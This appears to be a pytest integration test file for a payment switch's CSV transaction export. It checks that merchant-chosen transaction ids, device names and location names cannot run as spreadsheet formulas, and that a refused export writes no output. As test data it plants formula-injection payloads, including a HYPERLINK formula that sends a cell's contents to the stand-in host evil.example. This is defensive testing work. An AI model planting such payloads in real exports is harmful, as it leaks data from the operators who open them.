"""The operator's CSV export (`txswitch admin export-transactions`) holds text that merchants and
their terminals choose (transaction ids, device and location names). A cell that starts with = + - @
is run as a formula by the spreadsheet the operator opens it in (CSV / formula injection)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import grpc
import pytest

from protocols.wire import backoffice_pb2 as bo
from switch.cli import export_transactions
from tests.integration.harness import World, world_fixture
from tests.integration.test_portal import days

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(params=["sqlite"])
def world(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[World]:
    yield from world_fixture(request, tmp_path, terminals=0)


def test_exported_cells_chosen_by_a_merchant_are_not_spreadsheet_formulas(world: World) -> None:
    world.server.core.admin.add_location(world.merchant_id, "@SUM(A1:A9)")
    terminal = world.activate("=1+2", location="@SUM(A1:A9)")
    card = world.issue(5_000)
    txn = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert terminal.redeem(card, 100, txn).response_code == "00"
    out = io.StringIO()
    export_transactions(world.backoffice, bo.TransactionReportRequest(**days()), world.admin_metadata, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    (row,) = [r for r in rows if r["transaction_type"] == "redemption"]
    cells = {name: row[name] for name in ("transaction_id", "device_name", "location_name")}
    formulas = {name: value for name, value in cells.items() if value.startswith(FORMULA_STARTS)}
    assert not formulas, f"cells a spreadsheet runs as formulas: {formulas}"


def test_a_refused_export_writes_no_line(world: World) -> None:
    out = io.StringIO()
    request = bo.TransactionReportRequest(merchant_id="mer_unknown", **days())
    with pytest.raises(grpc.RpcError) as refused:
        export_transactions(world.backoffice, request, world.admin_metadata, out)
    assert (refused.value.code(), refused.value.details()) == (
        grpc.StatusCode.NOT_FOUND,
        "merchant_id 'mer_unknown': no such merchant",
    )
    assert out.getvalue() == ""
